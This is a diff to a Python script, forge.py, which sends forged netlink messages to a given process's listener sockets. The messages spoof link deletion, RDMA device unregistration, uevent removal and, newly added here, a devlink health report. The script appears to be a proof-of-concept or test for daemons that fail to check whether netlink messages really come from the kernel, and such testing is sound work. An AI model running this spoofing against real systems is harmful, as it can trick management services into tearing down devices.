@@ -3,12 +3,12 @@
 
   forge.py PID NETDEV
 
-A link that is gone to rtnetlink, a device that is gone to RDMA netlink, a removal to the uevent monitors. Prints the protocol number
+A link that is gone to rtnetlink, a device that is gone to RDMA netlink, a health report to devlink, a removal to the uevent monitors. Prints the protocol number
 of each socket that was sent something.
 """
 import os, socket, struct, sys
 
-ROUTE, UEVENT, RDMA = 0, 15, 20
+ROUTE, UEVENT, GENERIC, RDMA = 0, 15, 16, 20
 RTM_DELLINK, IFLA_IFNAME = 17, 3
 RDMA_MONITOR = 5 << 10 | 28  # RDMA_NL_NLDEV, RDMA_NLDEV_CMD_MONITOR (linux/include/uapi/rdma/rdma_netlink.h)
 RDMA_DEV_INDEX, RDMA_EVENT_TYPE, RDMA_UNREGISTER = 1, 102, 1
@@ -32,6 +32,11 @@ def rdma_gone():
                    attribute(RDMA_EVENT_TYPE, struct.pack("=B", RDMA_UNREGISTER)))
 
 
+def health_report():
+    """DEVLINK_CMD_HEALTH_REPORTER_RECOVER of some family: its number does not matter, the kernel is not the sender."""
+    return message(0x1F, struct.pack("=BBH", 55, 1, 0))
+
+
 def uevent(netdev):
     path = os.path.realpath(f"/sys/class/net/{netdev}")[4:]
     return f"remove@{path}\0ACTION=remove\0DEVPATH={path}\0SUBSYSTEM=net\0INTERFACE={netdev}\0SEQNUM=1\0".encode()
@@ -51,7 +56,7 @@ def listeners(pid):
 
 def main():
     pid, netdev = sys.argv[1], sys.argv[2]
-    forged = {ROUTE: link_gone(netdev), RDMA: rdma_gone(), UEVENT: uevent(netdev)}
+    forged = {ROUTE: link_gone(netdev), RDMA: rdma_gone(), GENERIC: health_report(), UEVENT: uevent(netdev)}
     for protocol, port in listeners(pid):
         with socket.socket(socket.AF_NETLINK, socket.SOCK_RAW, protocol) as s:
             s.sendto(forged[protocol], (port, 0))
